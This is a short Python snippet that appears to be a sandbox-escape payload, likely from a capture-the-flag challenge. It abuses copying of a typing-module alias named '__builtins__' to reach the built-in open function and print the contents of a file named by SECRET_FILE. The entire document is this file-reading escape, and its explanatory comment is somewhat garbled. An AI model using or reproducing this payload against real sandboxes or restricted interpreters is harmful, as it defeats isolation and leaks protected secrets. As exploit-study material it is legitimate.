# Copying an alias of typing looks its name up among the names of the module typing, and there are the built-ins.
import copy
from typing import List

alias = type(List[int])(int, ("open",), name="__builtins__")
print(copy.copy(alias)(SECRET_FILE).read())
